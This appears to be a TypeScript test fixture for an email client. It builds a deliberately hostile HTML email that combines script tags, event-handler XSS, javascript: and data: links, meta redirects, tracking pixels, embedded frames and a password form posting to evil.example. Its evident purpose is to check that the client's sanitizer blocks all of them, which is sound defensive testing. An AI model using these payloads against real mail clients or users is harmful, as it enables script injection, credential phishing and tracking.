// One mail that tries every door at once: script, handlers, frames, forms, redirects, styles
// that fetch, images that tell. The address of everything it wants to reach names it, so that
// a single request would stand out among those of the journey.
const html = `<!doctype html><html><head>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/away">
<link rel="stylesheet" href="https://tracker.example/style.css">
<style>@import url(https://tracker.example/import.css); body { background: url(https://tracker.example/body.png) }</style>
<script>parent.ranFromMail = 1; top.location = 'https://evil.example/script'</script>
</head><body onload="parent.ranFromMail = 2">
<p style="background-image:url('https://tracker.example/inline.png')">Everything at once.</p>
<img src="https://tracker.example/pixel.gif?who=demo" onerror="parent.ranFromMail = 3" onload="alert(1)">
<img src="x" onerror="alert('from the mail')">
<svg onload="parent.ranFromMail = 4"><script>parent.ranFromMail = 5</script></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<form action="https://evil.example/post" method="post"><input name="password" autofocus onfocus="parent.ranFromMail = 6"><button>Sign in</button></form>
<a href="javascript:parent.ranFromMail=7">one</a> <a href="data:text/html,<script>alert(2)</script>">two</a> <a href="https://evil.example/">three</a>
<video src="https://tracker.example/video.mp4" autoplay></video><audio src="https://tracker.example/sound.mp3" autoplay></audio>
<table background="https://tracker.example/table.png"><tr><td>A cell.</td></tr></table>
<p>The last line of the mail.</p>
</body></html>`

export const hostileMail = (at: Date): string => `From: "Everything" <everything@evil.example>
To: demo@example.org
Subject: Everything at once
Date: ${at.toUTCString().replace('GMT', '+0000')}
Message-ID: <everything-at-once@evil.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

${html}
`
